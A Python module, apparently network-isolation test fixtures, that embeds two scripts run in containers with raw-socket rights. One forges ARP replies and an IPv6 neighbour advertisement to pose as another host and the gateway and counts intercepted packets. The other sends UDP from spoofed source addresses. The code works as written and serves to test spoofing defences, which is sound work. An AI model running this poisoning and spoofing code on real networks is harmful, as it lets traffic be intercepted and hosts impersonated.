"""Programs that pass for somebody else on a network; each is run in a container with NET_RAW."""

#: Announces `address` by ARP, unasked-for, to all and as itself and as its owner, sends frames
#: from its owner's hardware address, and tells at the end which packets for it came here.
#: Arguments: the address, its hardware address, its gateway, seconds.
ARP = r"""
import socket, sys, time
def packed(*fields):
    return b"".join(value.to_bytes(size, "big") for size, value in fields)
address, hardware, gateway, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
interface = "eth0"
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
link.bind((interface, 0))
mine = link.getsockname()[4]
theirs = bytes.fromhex(hardware.replace(":", ""))
every = b"\xff" * 6
def arp(kind, sender, sender_ip, target, target_ip, source=None):
    head = target + (source or sender) + b"\x08\x06"
    kind = packed((2, 1), (2, 0x800), (1, 6), (1, 4), (2, kind))
    return head + kind + sender + socket.inet_aton(sender_ip) + target + socket.inet_aton(target_ip)
def advertisement():
    # An unasked-for NDP answer: fe80::1 (a gateway's, maybe) is at this hardware address.
    source, everyone = socket.inet_pton(10, "fe80::1"), socket.inet_pton(10, "ff02::1")
    body = packed((1, 136), (1, 0), (2, 0), (4, 0x20000000)) + source + b"\x02\x01" + mine
    words = source + everyone + packed((4, len(body)), (4, 58)) + body
    total = sum(int.from_bytes(words[at:at + 2], "big") for at in range(0, len(words), 2))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    body = body[:2] + packed((2, ~total & 0xFFFF)) + body[4:]
    packet = packed((4, 6 << 28), (2, len(body)), (1, 58), (1, 255)) + source + everyone + body
    return b"\x33\x33\0\0\0\x01" + mine + b"\x86\xdd" + packet
forged = [
    arp(2, mine, address, every, address),  # gratuitous answer
    arp(1, mine, address, every, address),  # gratuitous question
    arp(2, mine, address, every, gateway),
    arp(2, mine, gateway, every, address),
    arp(1, theirs, address, every, gateway),  # the owner's hardware address is over here
    advertisement(),
]
wanted, caught, sent = socket.inet_aton(address), 0, 0
deadline = time.monotonic() + seconds
print("begun", mine.hex(), flush=True)
while time.monotonic() < deadline:
    for frame in forged:
        link.send(frame)
        sent += 1
    pause = time.monotonic() + 0.01
    while (left := pause - time.monotonic()) > 0:
        link.settimeout(left)
        try:
            frame = link.recv(65535)
        except OSError:
            break
        if frame[6:12] not in (mine, theirs) and frame[12:14] == b"\x08\x00":
            caught += frame[30:34] == wanted
print("sent", sent, "caught", caught, flush=True)
"""

#: Sends UDP packets with a payload from each of the source addresses that it is given.
#: Arguments: destination, port, and sources.
SOURCE = r"""
import socket, sys
def packed(*fields):
    return b"".join(value.to_bytes(size, "big") for size, value in fields)
destination, port = sys.argv[1], int(sys.argv[2])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for source in sys.argv[3:]:
    body = source.encode()
    udp = packed((2, 4242), (2, port), (2, 8 + len(body)), (2, 0)) + body
    ip = packed((1, 0x45), (1, 0), (2, 20 + len(udp)), (2, 1), (2, 0), (1, 64), (1, 17), (2, 0))
    ip += socket.inet_aton(source) + socket.inet_aton(destination)
    for _ in range(3):
        try:
            raw.sendto(ip + udp, (destination, 0))
        except OSError as error:
            print(source, error)
"""
